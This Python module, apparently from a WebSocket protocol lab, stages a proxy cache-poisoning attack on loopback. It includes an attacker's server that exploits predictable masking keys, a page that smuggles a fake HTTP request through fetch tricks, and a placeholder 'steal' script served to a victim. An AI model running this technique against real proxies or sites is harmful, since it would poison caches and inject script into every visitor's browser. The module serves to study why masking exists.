"""Who takes part: the attacker's server and page, the site that is attacked, and a victim.

The attack is the same every time, only the browser that runs the attacker's page differs: in how it
chooses the masking key. wslab's own client always takes a fresh one and wslab's server refuses a
frame without, so the browser here is the bare protocol object, and is given its "random" bytes.
All four are on loopback; the names of the sites end in .example, and exist nowhere (RFC 2606).
"""

from __future__ import annotations

import http.client
import json
import re
from collections.abc import Callable
from typing import NamedTuple

from ... import net
from ...net import CHUNK, Stream
from ...observe.recording import Recording
from ...observe.tap import Tap
from ...protocol.connection import Connection
from ...protocol.frames import PAYLOAD, encode_frame, read_header
from ...protocol.grammar import EXACTLY, Parser, Reader
from ...protocol.handshake import make_request
from ...protocol.masking import mask
from ...protocol.rfc import Opcode, Role, State
from ...protocol.uri import Address
from ...tcp_server import Peer

TIMEOUT = 10.0
"""How long anyone here waits for an answer, in seconds."""

SITE, PATH = "site.example", "/script.js"
HONEST = b'show("the script of the site itself")'
EVIL = b'steal("what the victim does here")'

FAKE_REQUEST = f"GET {PATH} HTTP/1.1\r\nHost: {SITE}\r\n\r\n".encode()
"""What the attacker wants to see on the wire, inside of a WebSocket frame."""

NONCE = b"no random needed"
"""The key of the opening handshake (§4.1), which plays no part in this."""

POST = (
    f"POST / HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: {len(FAKE_REQUEST)}\r\n\r\n"
).encode() + FAKE_REQUEST
"""The same bytes without WebSocket: the body of a request that any page may send."""

TRICKS = (
    {"method": "POST", "mode": "no-cors"},
    {"method": "POST", "headers": {"Content-Length": "0"}},
    {"method": "POST", "headers": {"Transfer-Encoding": "chunked"}},
    {"method": "POST", "headers": {"Host": SITE, "Upgrade": "websocket"}},
    {"method": "INVENTED"},
)
"""How the attacker's page sends that body: options of ``fetch``. Some of them lie about it."""

PAGE = """<!doctype html>
<html lang="en"><meta charset="utf-8"><title>You have won!</title><link rel="icon" href="data:,">
<p id="answer"></p>
<script>
async function send() {
  for (const trick of TRICKS) await fetch("/", {...trick, body: FAKE_REQUEST}).catch(() => {});
  document.querySelector("#answer").textContent = "All sent.";
}
send();
</script>
""".replace("TRICKS", json.dumps(TRICKS)).replace("FAKE_REQUEST", json.dumps(FAKE_REQUEST.decode()))

NewKey = Callable[[int], bytes]
"""How a browser gets a masking key: of 4 bytes, or of none if it does not mask."""


def answer(script: bytes, kind: str = "text/javascript") -> bytes:
    """A whole response. The attacker's is no different from the site's."""
    fields = f"Content-Type: {kind}\r\nContent-Length: {len(script)}\r\n"
    return f"HTTP/1.1 200 OK\r\n{fields}\r\n".encode() + script


# ------------------------------------------------------------ the servers


def site(peer: Peer) -> None:
    """The honest site: whatever the request, it answers with its script."""
    peer.sock.settimeout(TIMEOUT)
    request = b""
    while b"\r\n\r\n" not in request:
        chunk = peer.sock.recv(CHUNK)
        if not chunk:  # the proxy had the answer in its cache
            return
        request += chunk
    peer.sock.sendall(answer(HONEST))


def attackers_server(peer: Peer) -> None:
    """A WebSocket server at first: it answers the handshake, and says hello with a key.

    The second frame holds the fake request. The answer to it is fake too, and no frame: a server
    may put any bytes on the wire, so nothing would be gained if it had to mask (§5.1).
    """
    sock = peer.sock
    sock.settimeout(TIMEOUT)
    handshake = Connection(Role.SERVER)
    while handshake.state is State.CONNECTING:
        handshake.receive(_some(sock))
        sock.sendall(handshake.to_send())
    key = read_frame(sock)
    sock.sendall(encode_frame(Opcode.BINARY, key))
    read_frame(sock)
    sock.sendall(answer(EVIL))


def attackers_web_server(peer: Peer) -> None:
    """A web server: it answers GET / with its page, and all else with two false responses.

    The second is for the request in the body, in case a proxy takes it for one.
    """
    sock, request = peer.sock, b""
    sock.settimeout(TIMEOUT)
    while data := sock.recv(CHUNK):
        request += data
        while (end := request.find(b"\r\n\r\n") + 4) > 3:
            length = re.search(rb"Content-Length: ([0-9]+)", request[:end], re.IGNORECASE)
            stop = end + (int(length[1]) if length else 0)
            if len(request) < stop:
                break
            page = request.startswith(b"GET / ")
            sock.sendall(answer(PAGE.encode(), "text/html") if page else 2 * answer(EVIL))
            request = request[stop:]


def read_frame(sock: Stream) -> bytes:
    """Take one frame off the wire, masked or not, and return its masking key: it travels along."""
    keys = []

    def frame() -> Parser[None]:
        header = yield from read_header(masked=None)  # wslab's server would insist on a mask
        keys.append(header.key)
        yield PAYLOAD, header.length, EXACTLY

    reader = Reader(frame())
    while reader.want is not None:
        reader.feed(_some(sock))
    return keys[0]


# ------------------------------------------------------------ the browsers


class Sent(NamedTuple):
    """What the page gave to the browser last, and what the browser made of it on the wire."""

    payload: bytes
    frame: bytes


def attackers_page(dial: tuple[str, int], new_key: NewKey, recording: Recording) -> Sent:
    """What the script of the page does, in a browser that masks each frame with ``new_key(4)``.

    It says hello, is told the key of that frame by its server, and sends the fake request so that
    the *same* key would turn it into plain text: masking twice gives the data back (§5.3).
    """
    request = make_request(Address("ws", "attacker.example", 80), NONCE)
    browser = Connection(Role.CLIENT, request=request, random=new_key)
    with Tap(net.connect(*dial, timeout=TIMEOUT), recording, Role.CLIENT) as sock:
        sock.settimeout(TIMEOUT)
        sock.sendall(browser.to_send())
        while browser.state is State.CONNECTING:
            browser.receive(_some(sock))
        sock.sendall(browser.send(b"hello"))
        while not (messages := browser.receive(_some(sock))):
            pass
        key = messages[0]
        payload = mask(FAKE_REQUEST, key) if isinstance(key, bytes) and key else FAKE_REQUEST
        frame = browser.send(payload)
        sock.sendall(frame)
        _take(sock, len(answer(EVIL)))
    return Sent(payload, frame)


def posting_page(dial: tuple[str, int], recording: Recording) -> Sent:
    """What a browser sends when the page puts the fake request into the body of a POST."""
    with Tap(net.connect(*dial, timeout=TIMEOUT), recording, Role.CLIENT) as sock:
        sock.settimeout(TIMEOUT)
        sock.sendall(POST)
        _take(sock, 2 * len(answer(EVIL)))
    return Sent(FAKE_REQUEST, FAKE_REQUEST)


def victim(dial: tuple[str, int]) -> bytes:
    """Ask for the site's script, as a page of the site makes every visitor's browser do."""
    connection = http.client.HTTPConnection(*dial, timeout=TIMEOUT)
    try:
        connection.request("GET", PATH, headers={"Host": SITE})
        return connection.getresponse().read()
    finally:
        connection.close()


def _take(sock: Stream, size: int) -> None:
    while size > 0:
        size -= len(_some(sock))


def _some(sock: Stream) -> bytes:
    """At least one byte. Raises ConnectionError at the end of the stream."""
    data = sock.recv(CHUNK)
    if not data:
        raise ConnectionError("the connection ended in the middle of the experiment")
    return data
